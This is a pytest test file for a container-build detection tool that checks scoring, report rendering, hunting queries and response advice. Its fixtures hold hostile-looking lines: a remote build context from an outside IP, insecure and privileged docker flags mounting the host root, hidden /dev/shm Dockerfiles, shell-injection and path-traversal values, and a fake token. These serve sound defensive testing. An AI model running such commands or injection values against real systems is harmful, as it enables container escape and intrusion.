    assert "".join(piece.text for piece in row.detail) == BUILD["ProcessCommandLine"]
    finding = Detector().score(BUILD)
    assert finding is not None
    (item,) = [each for each in finding.evidence if each.text == "--no-cache"]
    moved = marked("docker  build --no-cache", [item])
    assert (Piece("--no-cache", is_match=True),) == moved[-1:]
    assert (Piece("nothing"),) == marked("nothing", [item, evolve(item, text="")])
    twice = marked(
        "--no-cache x", [evolve(item, span=(0, 10)), evolve(item, span=None, text="-cache")]
    )
    assert [("--no-cache", True), (" x", False)] == [(p.text, p.is_match) for p in twice]


def test_of_a_long_text_both_ends_are_shown_and_what_signals_saw(tmp_path: Path) -> None:
    (row,) = report_of([BUILD]).findings
    line = (
        f"docker build --label a={'a' * 3_000} --no-cache --label b={'b' * 3_000} -t x:1 /dev/shm/x"
    )
    long = {**BUILD, "ProcessCommandLine": line}
    (row,) = report_of([long]).findings
    told = "".join(piece.text for piece in row.detail)
    seen = {piece.text for piece in row.detail if piece.is_match}

    assert told.startswith("docker build --label a=aaa")
    assert told.endswith(" -t x:1 /dev/shm/x")
    assert {"--no-cache", "/dev/shm/x"} <= seen
    assert 2 == told.count(GAP)
    assert len(told) < 1_100
    far = "".join(piece.text for piece in marked("a " * 9000, []))
    assert far.endswith(" … [cut after 7,999 characters]")
    assert len(far) < 1_100


def test_each_place_counts_once_and_the_heaviest_first() -> None:
    line = (
        f"docker build --build-context a=http://203.0.113.5/{'u' * 190} {'--label a=b ' * 80}"
        f"--network=host --allow=security.insecure {'--label a=b ' * 80}"
        "-f /dev/shm/.hid/Dockerfile ."
    )
    (row,) = report_of([{**BUILD, "ProcessCommandLine": line}]).findings
    told = "".join(piece.text for piece in row.detail)
    assert "--allow=security.insecure" in told
    assert "/dev/shm/.hid/Dockerfile ." in told


def test_a_decoy_is_not_marked_in_place_of_what_was_seen() -> None:
    before = f"--build-arg TOKEN={'x' * 40} --label n=/dev/shm/.x {'-q ' * 90}"
    line = f"docker build {before}-t e:1 /dev/shm/.x"
    (row,) = report_of([{**BUILD, "ProcessCommandLine": line}]).findings
    texts = [(piece.text, piece.is_match) for piece in row.detail]
    assert texts[-1] == ("/dev/shm/.x", True)
    assert not [text for text, is_match in texts[:-1] if is_match and "/dev/shm" in text]
    # What stands in a script of which quotes were taken away may stand at either place.
    script = f"echo lies in /dev/shm/.x; {'true; ' * 9}docker build -t e:3 /dev/shm/.x; echo it"
    quoted_script = f"sh -c '{script}'\\''s'"
    (row,) = report_of([{**BUILD, "FileName": "sh", "ProcessCommandLine": quoted_script}]).findings
    assert 2 == sum("/dev/shm/.x" in piece.text for piece in row.detail if piece.is_match)


def test_of_a_step_that_is_no_finding_what_signals_saw_is_shown() -> None:
    (start,) = (each for each in rows(ATTACK) if "docker run" in str(each))
    line = f"docker run -d {'-e A=b ' * 200}--privileged -v /:/mnt alpine:3 {'word ' * 300}"
    long = (
        {**start["properties"], "ProcessCommandLine": line}
        if "properties" in start
        else {**start, "ProcessCommandLine": line}
    )
    report = report_of([{**start, "properties": long}] if "properties" in start else [long])
    for page in (html.write(report), md.write(report)):
        assert "--privileged" in page
    others = [each for each in rows(ATTACK) if "docker run" not in str(each)]
    chain = report_of([*others, {**start, "properties": long} if "properties" in start else long])
    for page in (html.write(chain), md.write(chain)):
        assert "--privileged" in page
        assert "process.run_privileged" in page


@pytest.mark.parametrize("before", [7_950, 7_970, 7_990, 7_999])
@pytest.mark.parametrize("filling", ["a ", "a"])
def test_no_half_of_a_secret_is_shown_where_a_text_is_cut(before: int, filling: str) -> None:
    token = "ghp_" + "A1b2" * 9
    for secret in (
        token,
        f"--password {token}",
        f"-p {token}",
        f"eyJhbGciOiJ{'Iz' * 999}.x.{token}",
    ):
        text = (filling * before)[: before - 1] + " " + secret + " end"
        for told in ("".join(each.text for each in marked(text, [])), shown(text)):
            assert not {"A1b2", "IzIz"} & {told[at : at + 4] for at in range(len(told))}


NOON = datetime(2026, 3, 4, 12, tzinfo=UTC)


def test_a_name_from_right_to_left_turns_nothing_round_beside_it() -> None:
    hebrew, arabic = "\u05e9\u05dc\u05d5\u05dd", "\u0645\u062d\u0645\u062f"
    chain = [{**each, "DeviceName": hebrew} for each in events("x")]
    chain = [
        {**each, "AccountName": arabic, "InitiatingProcessAccountName": arabic} for each in chain
    ]
    page = html.write(report_of(chain))
    assert f'On <bdi dir="ltr">{hebrew}</bdi>, <bdi dir="ltr">{arabic}</bdi> built x:1, ' in page
    assert f'started on <bdi dir="ltr">{hebrew}</bdi>.</span>' in page
    assert f'<h3 id="incident-1"><bdi dir="ltr">{hebrew}</bdi>: build' in page
    assert f'<dd><span><bdi dir="ltr">{arabic}</bdi></span></dd>' in page
    assert re.search(r"code, pre, \.text \{[^}]*unicode-bidi: isolate;", page)


def test_so_does_one_in_the_drawing() -> None:
    hebrew = "\u05e9\u05dc\u05d5\u05dd"
    chain = json.loads(json.dumps(events("x")).replace("x:1", f"{hebrew}:1"))
    page = html.write(report_of(chain))
    assert re.search(rf'<tspan>\+[^<]+ by <tspan class="isolated">[^<]*{hebrew}', page)
    assert "svg .isolated { unicode-bidi: isolate; direction: ltr; }" in page


@pytest.mark.parametrize(
    ("host", "said", "languages"),
    [
        ("shop\u200bweb", "show nothing", {"KQL", "SPL", "ES|QL", "EQL", "LogScale"}),
        ("h" * 300, "is cut here", {"KQL", "SPL", "ES|QL", "EQL", "LogScale"}),
        ("*", "holds *, which stands for any text in ", {"SPL", "EQL", "LogScale"}),
        ("web?", "holds ?, which stands for any text in ", {"EQL"}),
        ("w*b?", "holds * and ?, which stands for any text in EQL", {"EQL"}),
    ],
)
def test_a_query_that_may_mislead_says_so(host: str, said: str, languages: set[str]) -> None:
    asked = queries(host, NOON, NOON)
    alone = report_of([{**BUILD, "DeviceName": host}])

    assert languages == {each.language for each in asked if said in each.note}
    assert {each.note for each in asked} == {each.note for each in alone.queries}
    for page in (html.write(alone), md.write(alone)):
        assert said in re.sub(r"`(\S)`", r"\1", page)


def test_a_name_stands_in_a_query_as_one_text() -> None:
    hostile = 'a"\\\n| drop \u202e'
    assert '"a\\"\\\\\\\\n| drop \\\\u202e"' == quoted(hostile)
    for query in queries(hostile, NOON, NOON):
        assert hostile not in query.text
        (line,) = [each for each in query.text.splitlines() if "drop" in each]
        assert quoted(hostile) in line
    assert () == queries("", NOON, NOON)
    assert () == queries("a", None, None)
    kql, *_ = queries("a", NOON, NOON)
    assert not any(each.note for each in queries("shop-web-2.example", NOON, NOON))
    assert "datetime(2026-03-04T11:00:00Z) .. datetime(2026-03-04T13:00:00Z)" in kql.text


@pytest.mark.parametrize(
    "value",
    ["-v", "a b", "a;b", "$(a)", "`a`", "a\nb", "a'b", "", "ü", "a|b", "~", "a*", "a" * 300],
)
def test_what_a_shell_would_change_is_put_into_no_command(value: str) -> None:
    told = advice({"always", "started"}, {"image": value, "container": value}, NOON, NOON)
    lines = [line for each in told for _, line in each.commands]

    assert lines
    assert not any(value in line for line in lines if value and value != "-v")
    assert any(line.endswith(" IMAGE") for line in lines)
    assert any(line.endswith(" CONTAINER") for line in lines)


@pytest.mark.parametrize(
    ("place", "value"),
    [
        *(
            ("container", each)
            for each in ("../volumes/x", "../../../etc/passwd", "a/b", ".a", "a:1")
        ),
        *(
            ("image", each)
            for each in ("../../x:1", "http://e.example/i:1", "/etc/x", "a//b", "a/../b")
        ),
        *(("image", each) for each in ("@sha256:ab", "a:1:2", "a/b:../c", "x" * 201)),
    ],
)
def test_what_is_no_name_of_an_engine_is_put_into_none(place: str, value: str) -> None:
    lines = [
        line
        for each in advice({"always", "started", "host_container"}, {place: value}, NOON, NOON)
        for _, line in each.commands
    ]
    assert not [line for line in lines if value in line]
    assert [line for line in lines if place.upper() in line]


@pytest.mark.parametrize("value", ["a", "a-b_c.d:1", "h:5000/a/b:v1.2", "a@sha256:0f", "sha256:0f"])
def test_a_name_of_an_image_is(value: str) -> None:
    lines = [
        line for e in advice({"always"}, {"image": value}, NOON, NOON) for _, line in e.commands
    ]
    assert f"docker save -o EVIDENCE/docker-image.tar {value}" in lines


def test_what_is_plain_is_put_into_commands() -> None:
    named = {"image": "registry.example/a:1@sha256:ab", "container": "web-1", "path": "/tmp/x"}
    lines = [
        line
        for each in advice({"always", "started", "file"}, named, NOON, NOON)
        for _, line in each.commands
    ]

    assert "docker pause web-1" in lines
    assert "docker save -o EVIDENCE/docker-image.tar registry.example/a:1@sha256:ab" in lines
    for line in lines:
        assert not re.search(r"(?<!\{)\{\w+\}", line)
        shlex.split(line)
    without = [line for each in advice({"always"}, {}, None, None) for _, line in each.commands]
    assert "docker events --since START --until END" in without


def test_nothing_is_removed_before_it_is_kept() -> None:
    told = advice({"always", "started", "file"}, {}, NOON, NOON)
    phases = [each.action.phase for each in told]
    removing = [
        each.action.phase
        for each in told
        for _, line in each.commands
        if re.search(r"\b(?:rm|rmi|prune|kill|stop)\b", line)
    ]

    assert {"eradicate"} == set(removing)
    assert phases.index("preserve") < phases.index("eradicate")


def test_occasions_are_what_was_seen() -> None:
    assert {"always"} == occasions((), (), ())
    assert {"always", "api", "service", "host_power"} == occasions(
        (), ("daemon.api_build", "process.web_server_lineage"), ("T1611",)
    )


# The command.


def test_the_command_writes_a_page(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    to = tmp_path / "report.html"
    to.write_text("old", "utf-8")

    assert 1 == main(["report", "-o", str(to), "--title", "Case 7", str(ATTACK)])
    page = to.read_text("utf-8")
    assert page.startswith('<!doctype html>\n<html lang="en">')
    assert "<title>Case 7</title>" in page
    assert "examples/attack.jsonl:3" in page
    assert [to] == list(tmp_path.iterdir())
    said = capsys.readouterr()
    assert "" == said.out
    assert "6 events = 6 scored + 0 rejected; 3 findings, 1 chain" in said.err


def test_the_form_follows_the_name(tmp_path: Path) -> None:
    assert 1 == main(["report", "--findings", "2", "-o", str(tmp_path / "a.MD"), str(ATTACK)])
    assert (tmp_path / "a.MD").read_text("utf-8").startswith("# Container images built on hosts\n")


def test_without_a_name_it_is_printed(capsys: pytest.CaptureFixture[str]) -> None:
    assert 0 == main(["report", "--format", "md", str(ROOT / "examples" / "quiet-day.json")])

    assert "**Nothing was found in " in capsys.readouterr().out


def test_what_was_not_understood_stands_on_the_page(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "mixed.jsonl"
    source.write_text(f'{json.dumps(BUILD)}\nnot json <b>\n{{"a": 1}}\n', "utf-8")
    lists = ["--allowlist", str(ROOT / "examples" / "tuning.toml"), "--today", "2026-03-04"]

    code = main(["report", "--format", "md", *lists, str(source), str(tmp_path / "missing")])
    told = capsys.readouterr().out
    assert 3 == code
    assert "Not everything was understood" in told
    assert "mixed.jsonl:2`" in told
    assert "input not read to the end" in told
    assert "cannot be read" in told
    assert "all lists as one: " in told
    assert 3 == main(["report", *lists, str(source), str(tmp_path / "missing")])
    page = capsys.readouterr().out
    assert "Table of allow-lists" in page


def test_standard_input_is_said_not_to_be_read_twice(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with ATTACK.open(encoding="utf-8") as stream:
        monkeypatch.setattr("sys.stdin", stream)
        assert 1 == main(["report", "--format", "md"])
    assert "`standard input`: not there to be read twice" in capsys.readouterr().out

    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    writer = os.open(pipe, os.O_RDWR)  # so that opening it does not wait
    from t1612core.cli.report import _input

    assert "not there to be read twice" == _input(str(pipe)).digest
    os.close(writer)


def test_a_page_that_cannot_be_written_ends_with_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    to = tmp_path / "missing" / "report.html"

    assert 2 == main(["report", "-o", str(to), str(ATTACK)])
    assert f"there is no folder '{to.parent}'" in capsys.readouterr().err
    long = tmp_path / ("x" * 300 + ".html")
    assert 2 == main(["report", "-o", str(long), str(ATTACK)])
    assert "cannot write the output: File name too long" in capsys.readouterr().err
    assert 1 == main(["report", "-o", os.devnull, str(ATTACK)])
    assert 2 == main(["report", "-o", str(ATTACK), str(ATTACK)])
    assert "--output is one of the files that are read" in capsys.readouterr().err


@pytest.mark.parametrize("command", ["scan", "correlate", "report"])
def test_nothing_that_is_read_is_written_over(command: str, tmp_path: Path) -> None:
    """Not in a directory, and no list or map that an option names."""
    kept = {
        "a.jsonl": ATTACK,
        "list.toml": ROOT / "examples" / "tuning.toml",
        "map.toml": ROOT / "examples" / "fields.toml",
    }
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "a.jsonl").write_bytes(ATTACK.read_bytes())
    for name in ("list.toml", "map.toml"):
        (tmp_path / name).write_bytes(kept[name].read_bytes())
    options = ["--allowlist", f"{tmp_path}/list.toml", "--fields", f"{tmp_path}/map.toml"]

    for name in ("in/a.jsonl", "list.toml", "map.toml"):
        path = tmp_path / name
        assert 2 == main([command, *options, "-o", str(path), str(folder)])
        assert kept[path.name].read_bytes() == path.read_bytes()


def test_an_interrupted_run_leaves_the_old_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    to = tmp_path / "report.html"
    to.write_text("old", "utf-8")

    def interrupted(*_: object, **__: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(Collector, "report", interrupted)
    assert 130 == main(["report", "-o", str(to), str(ATTACK)])
    assert "old" == to.read_text("utf-8")

    monkeypatch.undo()
    monkeypatch.setattr(os, "replace", interrupted)
    assert 130 == main(["report", "-o", str(to), str(ATTACK)])
    assert [to] == list(tmp_path.iterdir())


def test_the_account_says_what_was_suppressed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = ROOT / "examples" / "validation-tests.jsonl"
    lists = ["--allowlist", str(ROOT / "examples" / "tuning.toml"), "--today", "2026-03-04"]

    assert 1 == main(["report", *lists, "-o", str(tmp_path / "a.html"), str(source)])
    assert ", 2 suppressed, " in capsys.readouterr().err


def test_a_chain_that_was_lost_ends_with_3(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "x.jsonl"
    source.write_text(json.dumps({**BUILD, "TimeGenerated": "x"}), "utf-8")

    assert 3 == main(["report", "--format", "md", str(source)])
    assert "1 step that no chain can have: without a time" in capsys.readouterr().err


@pytest.mark.parametrize(
    "moment", ["0001-01-01T00:00:00", "0500-01-01T00:00:00", "9999-12-31T23:59:59"]
)
def test_a_time_at_the_end_of_the_calendar_is_one(moment: str) -> None:
    given = [{**each, "TimeGenerated": f"{moment}Z"} for each in (BUILD, RUN)]
    report = report_of(given)

    assert f"{moment.replace('T', ' ')}" in html.write(report)
    lines = [line for each in report.advice for _, line in each.commands]
    assert not any(re.search(r"\b\d{1,3}-\d\d-\d\d[T ]", line) for line in lines)


def test_long_texts_are_cut() -> None:
    long = "x" * 100_000
    given = [
        later({**each, "AccountName": long, "DeviceName": long, "Other": long}, at)
        for at, each in ((1, BUILD), (5, RUN))
    ]
    given[0]["ProcessCommandLine"] += f" {long}"
    report = report_of(given)

    assert len(html.write(report)) < 60_000
    assert len(md.write(report)) < 30_000


def test_nobody_is_called_by_a_ticket() -> None:
    who = {"AccountName": "@octocat", "DeviceName": "#12"}
    text = md.write(report_of([later(BUILD, 1, **who), later(RUN, 5, **who)]))
    outside = re.sub(r"(?m)`[^`]*`|\\.|^ {4}.*$", "", text)

    assert "@octocat" in text
    assert "@" not in outside
    assert "#12" not in outside


def test_of_many_lines_that_are_wrong_the_first_are_told(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sources = []
    for number in range(30):
        sources.append(tmp_path / f"{number}.jsonl")
        sources[-1].write_text("no json\n", "utf-8")

    assert 3 == main(["report", "--format", "md", *map(str, sources)])
    assert 20 == capsys.readouterr().out.count("rejected: ")


@pytest.mark.parametrize("number", ["0", "5001", "x", "-1", "9" * 5000])
def test_a_number_of_findings_is_one(number: str) -> None:
    with pytest.raises(SystemExit):
        main(["report", "--findings", number, str(ATTACK)])


def test_an_account_without_events_says_so() -> None:
    report = Collector(Detector()).report(Account())

    assert "nothing" in html.write(report)
